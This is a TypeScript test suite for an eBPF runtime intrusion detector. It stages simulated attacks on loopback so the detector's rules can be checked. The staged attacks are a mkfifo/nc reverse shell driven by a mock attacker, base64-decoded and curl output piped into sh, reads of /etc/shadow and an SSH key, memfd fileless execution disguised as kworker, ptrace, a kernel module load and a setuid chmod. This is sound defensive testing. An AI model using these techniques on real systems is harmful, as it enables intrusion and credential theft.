import { spawn, spawnSync } from 'node:child_process';
import { chmodSync, copyFileSync, existsSync, mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { EbpfStreams, defaultBpfDir } from '@ainka/ebpf';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { GuardAlert } from '../src/detector.js';
import { Guard } from '../src/guard.js';
import { starterRules } from '../src/starterPack.js';

/** Why the real-kernel tests cannot run here. */
function skipReason(): string | undefined {
  if (process.getuid?.() !== 0) return 'not root: the guard tests load eBPF programs';
  if (!existsSync('/sys/kernel/btf/vmlinux')) return 'no BTF';
  if (!existsSync(join(defaultBpfDir(), 'manifest.json'))) return 'no eBPF objects: run make -C ebpf';
  return undefined;
}
const skip = skipReason();
if (skip) console.warn(`[@ainka/guard] skipping real-kernel tests: ${skip}`);

function py(code: string, args: string[] = [], uid?: number): Promise<number> {
  return new Promise((resolve, reject) => {
    const child = spawn('python3', ['-c', code, ...args], { stdio: ['ignore', 'ignore', 'inherit'], ...(uid !== undefined ? { uid, gid: uid } : {}) });
    child.on('error', reject);
    child.on('exit', () => resolve(child.pid!));
  });
}

async function until(check: () => boolean, ms = 8000): Promise<boolean> {
  const end = Date.now() + ms;
  while (Date.now() < end) {
    if (check()) return true;
    await new Promise((r) => setTimeout(r, 25));
  }
  return check();
}

/**
 * The starter pack against real attacks on this kernel: every alert must come from the real eBPF
 * records (no synthetic events), and carry the process tree.
 */
describe.skipIf(skip)('guard on the real kernel', () => {
  const home = '/home/ainka-guard-test';
  const streams = new EbpfStreams({ drainIntervalMs: 5 });
  // the crypto-miner rule wants 0.5 cores for 10 s: this shared 2-core host runs at load ~25, so this test checks the
  // mechanism (connection to a pool port + sustained CPU from /proc) with a low bar; the guest system test uses the real rule
  const quickMiner = `apiVersion: ainka.dev/v1
kind: DetectionRules
name: quick-miner
rules:
  - name: quick-miner
    when: event.type == cpu and proc.cpu >= 0.02 and proc.cpu_seconds >= 1 and proc.remote_ports in mining_pool_ports
`;
  let guard: Guard;
  const alerts: GuardAlert[] = [];
  const of = (rule: string, pred: (a: GuardAlert) => boolean = () => true): GuardAlert | undefined => alerts.find((a) => a.rule === rule && pred(a));

  beforeAll(() => {
    mkdirSync(join(home, '.ssh'), { recursive: true });
    writeFileSync(join(home, '.ssh', 'id_ed25519'), 'not a key');
    guard = new Guard({ rules: [{ text: starterRules, file: 'starter.yaml' }, { text: quickMiner, file: 'quick.yaml' }], cpuIntervalMs: 250, cpuThreshold: 0.02 });
    guard.alerts$.subscribe((a) => alerts.push(a));
    guard.start(streams);
  });
  afterAll(() => {
    guard.stop();
    streams.host.closeAll();
    rmSync(home, { recursive: true, force: true });
    rmSync('/etc/ainka-guard-test.conf', { force: true });
  });

  it('reverse shell: a shell with its stdio on a TCP socket', async () => {
    const pid = await py(`import socket, os
l = socket.socket(); l.bind(('127.0.0.1', 0)); l.listen(1)
c = socket.create_connection(l.getsockname()); a, _ = l.accept()
if os.fork() == 0:
    os.dup2(c.fileno(), 0); os.dup2(c.fileno(), 1)
    os.execv('/bin/sh', ['sh', '-c', 'exit 0'])
os.wait()`);
    expect(await until(() => !!of('reverse-shell', (a) => a.event.proc.ppid === pid))).toBe(true);
    const a = of('reverse-shell', (x) => x.event.proc.ppid === pid)!;
    expect(a.tree).toMatch(new RegExp(`python3\\(${pid}\\) → sh\\(\\d+\\)$`));
    expect(a.severity).toBe('critical');
    expect(a.latencyMs).toBeGreaterThan(0);
    expect(a.response).toMatchObject({ action: 'kill', status: 'proposed' });
  });

  it.skipIf(!existsSync('/bin/nc') && !existsSync('/usr/bin/nc'))('reverse shell through a pipeline: mkfifo + nc, no socket on the shell', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'ainka-fifo-'));
    // the attacker: accepts, sends a command and an exit a second later (a person types), and records what came back
    const attacker = spawn('python3', ['-c', `import socket, sys, time
l = socket.socket(); l.bind(('127.0.0.1', 0)); l.listen(1); print(l.getsockname()[1], flush=True)
c, _ = l.accept(); time.sleep(1); c.sendall(b'echo pwned-$((6*7)); exit\\n'); c.settimeout(10)
out = b''
while True:
    b = c.recv(4096)
    if not b: break
    out += b
    if b'pwned-42' in out: break
print(out.decode(errors='replace'), flush=True)`], { stdio: ['ignore', 'pipe', 'inherit'] });
    let heard = '';
    attacker.stdout.on('data', (b: Buffer) => (heard += b.toString()));
    expect(await until(() => /^\d+\n/.test(heard))).toBe(true);
    const port = Number(heard.split('\n')[0]);
    const victim = spawn('bash', ['-c', `rm -f ${dir}/f; mkfifo ${dir}/f; sh -i < ${dir}/f 2>&1 | nc 127.0.0.1 ${port} > ${dir}/f`], { stdio: 'ignore' });
    try {
      const seen = await until(() => !!of("reverse-shell-pipe", (a) => a.event.proc.ppid === victim.pid), 10_000);
      expect(seen).toBe(true);
      expect(await until(() => /pwned-42/.test(heard), 10_000)).toBe(true); // the shell really served the attacker
      const a = of('reverse-shell-pipe', (x) => x.event.proc.ppid === victim.pid)!;
      expect(a.severity).toBe('critical');
      expect(a.tree).toMatch(new RegExp(`bash\\(${victim.pid}\\) → (sh|nc)\\(\\d+\\)$`));
      // one alert per pipeline, whether the shell's exec or nc's connect was seen last
      expect(alerts.filter((x) => x.rule === 'reverse-shell-pipe' && x.event.proc.ppid === victim.pid)).toHaveLength(1);
    } finally {
      victim.kill('SIGKILL');
      attacker.kill('SIGKILL');
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it("an operator's login on an accepted connection (sshd -i style) is no reverse shell; the same program connecting out is", async () => {
    // a login service named sshd (python3 under that name) that puts a connection on its stdio and starts a shell
    const dir = mkdtempSync(join(tmpdir(), 'ainka-sshd-'));
    copyFileSync(process.platform === 'linux' ? realpathSync('/usr/bin/python3') : 'python3', join(dir, 'sshd'));
    chmodSync(join(dir, 'sshd'), 0o755);
    const login = (inbound: boolean): Promise<number> =>
      new Promise((resolve, reject) => {
        const child = spawn(join(dir, 'sshd'), ['-c', `import socket, os, time
l = socket.socket(); l.bind(('127.0.0.1', 0)); l.listen(1)
c = socket.create_connection(l.getsockname()); a, _ = l.accept()
s = a if ${inbound ? 'True' : 'False'} else c
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)
if os.fork() == 0:
    os.execv('/bin/bash', ['bash', '-c', 'exit 0'])
os.wait()
time.sleep(2)  # the login lasts a while after its first command, as a session does`], { stdio: ['ignore', 'ignore', 'inherit'] });
        child.on('error', reject);
        child.on('exit', () => resolve(child.pid!));
      });
    try {
      const outbound = await login(false);
      expect(await until(() => !!of('reverse-shell', (a) => a.event.proc.ppid === outbound))).toBe(true);
      const inbound = await login(true);
      // the outbound one was reported within this time above; give the inbound one the same chance
      await new Promise((r) => setTimeout(r, 2000));
      expect(alerts.filter((a) => a.event.proc.ppid === inbound || a.event.proc.pid === inbound).map((a) => a.rule)).toEqual([]);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('shell spawned by a network service (a process holding a listening socket)', async () => {
    const pid = await py(`import socket, subprocess
l = socket.socket(); l.bind(('127.0.0.1', 0)); l.listen(1)
subprocess.run(['/bin/sh', '-c', 'id > /dev/null'])`);
    expect(await until(() => !!of('shell-spawned-by-network-service', (a) => a.event.proc.ppid === pid))).toBe(true);
    expect(of('shell-spawned-by-network-service', (a) => a.event.proc.ppid === pid)!.summary).toMatch(/spawned by network service python3/);
  });

  it('reads of /etc/shadow and of an SSH private key', async () => {
    const cat = spawnSync('cat', ['/etc/shadow'], { stdio: 'ignore' });
    expect(cat.status).toBe(0);
    const pid = await py(`open('${home}/.ssh/id_ed25519').read()`);
    expect(await until(() => !!of('read-ssh-private-key', (a) => a.event.proc.pid === pid))).toBe(true);
    expect(await until(() => !!of('read-shadow-file', (a) => a.event.proc.name === 'cat'))).toBe(true);
    expect(of('read-ssh-private-key', (a) => a.event.proc.pid === pid)!.event.file).toMatchObject({ path: `${home}/.ssh/id_ed25519`, write: false });
  });

  it('a write below /etc, and nothing for a read of it', async () => {
    const pid = await py(`open('/etc/ainka-guard-test.conf', 'w').write('x')
open('/etc/ainka-guard-test.conf').read()
open('/etc/hostname').read()`);
    expect(await until(() => !!of('write-below-system-dir', (a) => a.event.proc.pid === pid))).toBe(true);
    expect(alerts.filter((a) => a.rule === 'write-below-system-dir' && a.event.proc.pid === pid)).toHaveLength(1);
  });

  it('a program run from a memfd (fileless), and nothing for the same program run from its file', async () => {
    const pid = await py(`import os
fd = os.memfd_create('payload')
os.write(fd, open('/bin/true', 'rb').read())
for how in ('fd', 'file'):
    child = os.fork()
    if child == 0:
        if how == 'fd':
            os.execve(fd, ['kworker/0:1'], {})
        os.execv('/bin/true', ['true'])
    os.waitpid(child, 0)`);
    expect(await until(() => !!of('fileless-exec', (a) => a.event.proc.ppid === pid))).toBe(true);
    const a = of('fileless-exec', (x) => x.event.proc.ppid === pid)!;
    expect(a.event.proc.exe).toMatch(/^\/dev\/fd\/\d+$/);
    expect(a.summary).toMatch(/\(kworker\/0:1\) executed from memory by python3/);
    expect(alerts.filter((x) => x.rule === 'fileless-exec' && x.event.proc.ppid === pid)).toHaveLength(1);
  });

  it('a shell fed by a decoder (base64 -d | sh), and nothing for a shell fed by another shell', async () => {
    const run = (pipeline: string): Promise<number> =>
      new Promise((resolve, reject) => {
        const child = spawn('bash', ['-c', pipeline], { stdio: 'ignore' });
        child.on('error', reject);
        child.on('exit', () => resolve(child.pid!));
      });
    // the feeders stay alive a second after the payload, as a download does while it runs
    const quiet = await run(`{ echo 'echo fed'; sleep 1; } | sh`);
    const decoded = await run(`{ echo ZWNobyBhaW5rYS1wYXlsb2Fk; sleep 1; } | base64 -d | sh`);
    expect(await until(() => !!of('download-piped-to-shell', (a) => a.event.proc.ppid === decoded))).toBe(true);
    expect(of('download-piped-to-shell', (a) => a.event.proc.ppid === decoded)!.summary).toMatch(/^pipeline into a shell: (\S*sh \(sh\) reads from base64,|\S*base64 \(base64 -d\) reads from \S*, writes to sh;)/);
    expect(alerts.filter((a) => a.event.proc.ppid === quiet)).toEqual([]);
  });

  it('nothing for downloads piped into filters from a shell, however fast curl starts before the filter has exec\'d', async () => {
    const pid = await new Promise<number>((resolve, reject) => {
      const child = spawn('bash', ['-c', 'for i in $(seq 30); do curl -s file:///etc/hostname | grep -q . ; done'], { stdio: 'ignore' });
      child.on('error', reject);
      child.on('exit', () => resolve(child.pid!));
    });
    await new Promise((r) => setTimeout(r, 1500)); // the last records drain
    expect(alerts.filter((a) => a.rule === 'download-piped-to-shell' && a.event.proc.ppid === pid).map((a) => a.summary)).toEqual([]);
  });

  it('a download piped into a shell that is over before the guard looks (curl of a local file), from the command line', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'ainka-curl-'));
    writeFileSync(join(dir, 'x.sh'), 'exit 0\n');
    const pid = await new Promise<number>((resolve, reject) => {
      const child = spawn('bash', ['-c', `curl -s file://${dir}/x.sh | sh`], { stdio: 'ignore' });
      child.on('error', reject);
      child.on('exit', () => resolve(child.pid!));
    });
    rmSync(dir, { recursive: true, force: true });
    expect(await until(() => !!of('download-piped-to-shell', (a) => a.event.proc.ppid === pid))).toBe(true);
    expect(of('download-piped-to-shell', (a) => a.event.proc.ppid === pid)!.summary).toMatch(/^pipeline into a shell: \S*(sh \(sh\) reads from|curl \(curl -s file:)/);
  });

  it("ptrace attach to another user's process", async () => {
    const target = spawn('sleep', ['10'], { stdio: 'ignore', uid: 65534, gid: 65534 });
    await new Promise((r) => target.on('spawn', r));
    await new Promise((r) => setTimeout(r, 50));
    const pid = await py(`import ctypes, sys
libc = ctypes.CDLL(None)
libc.ptrace(16, int(sys.argv[1]), 0, 0)`, [String(target.pid)]);
    target.kill('SIGKILL');
    expect(await until(() => !!of('ptrace-other-user', (a) => a.event.proc.pid === pid))).toBe(true);
    expect(of('ptrace-other-user', (a) => a.event.proc.pid === pid)!.event.target).toMatchObject({ pid: target.pid, uid: 65534, name: 'sleep' });
  });

  it('a kernel module load attempt', async () => {
    // the module's name is read from the caller's fd while it still runs: keep it open a while (under load the
    // guard reads after a caller that exits at once is gone, and the name is '': CI at 2ba4bbb)
    const pid = await py(`import ctypes, os, time
libc = ctypes.CDLL(None)
fd = os.open('/dev/null', os.O_RDONLY)
libc.syscall(313, fd, b'', 0)
time.sleep(3)`);
    expect(await until(() => !!of('kernel-module-load', (a) => a.event.proc.pid === pid))).toBe(true);
    expect(of('kernel-module-load', (a) => a.event.proc.pid === pid)!.event.module).toMatchObject({ how: 'finit_module', name: 'null' });
  });

  it('a new listening port on a non-loopback address (and not one that was listening at start)', async () => {
    const pid = await py(`import socket, time
l = socket.socket(); l.bind(('0.0.0.0', 0)); l.listen(1); time.sleep(0.1)`);
    expect(await until(() => !!of('new-listening-port', (a) => a.event.proc.pid === pid))).toBe(true);
    expect(of('new-listening-port', (a) => a.event.proc.pid === pid)!.event.net!.lport).toBeGreaterThan(0);
  });

  it('a crypto-miner shape: a connection to a pool port, then sustained CPU', async () => {
    const pid = await py(`import socket, time
l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); l.bind(('127.0.0.1', 3333)); l.listen(1)
c = socket.create_connection(('127.0.0.1', 3333))
end = time.time() + 10
while time.time() < end:
    pass`);
    expect(await until(() => !!of('quick-miner', (a) => a.event.proc.pid === pid), 1000)).toBe(true);
    expect(of('quick-miner', (a) => a.event.proc.pid === pid)!.event.cpu!.remotePorts).toContain(3333);
  });

  it('a set-uid bit set with chmod (relative path), and nothing for a plain chmod', async () => {
    const dir = join(home, 'bin');
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, 'helper'), '#!/bin/sh\n');
    writeFileSync(join(dir, 'plain'), '#!/bin/sh\n');
    const plain = spawnSync('chmod', ['0755', 'plain'], { cwd: dir });
    const r = spawnSync('chmod', ['u+s', 'helper'], { cwd: dir });
    expect(plain.status).toBe(0);
    expect(r.status).toBe(0);
    // coreutils' chmod names the file relative to a directory fd (fts): resolved while the caller runs, else kept relative
    const mine = (a: GuardAlert): boolean => a.event.proc.name === 'chmod' && /helper$/.test(a.event.file?.path ?? '');
    expect(await until(() => !!of('setuid-bit-set', mine)), JSON.stringify(alerts.filter((a) => a.rule === 'setuid-bit-set').map((a) => a.summary))).toBe(true);
    expect(of('setuid-bit-set', mine)!.summary).toMatch(/chmod \(chmod u\+s helper\) set mode 4[0-7]{3} on \S*helper as uid 0/);
    expect(alerts.filter((a) => /plain$/.test(a.event.file?.path ?? ''))).toEqual([]);
  });

  it('learned the baselines of what ran, and explains a novelty', () => {
    const a = of('reverse-shell')!;
    expect(a.baseline).toMatchObject({ feature: 'child', value: '/bin/sh', novel: true });
    expect(a.baseline!.explanation).toMatch(/python3 executed \/bin\/sh/);
    expect(guard.stats().events.exec).toBeGreaterThan(3);
  });
});
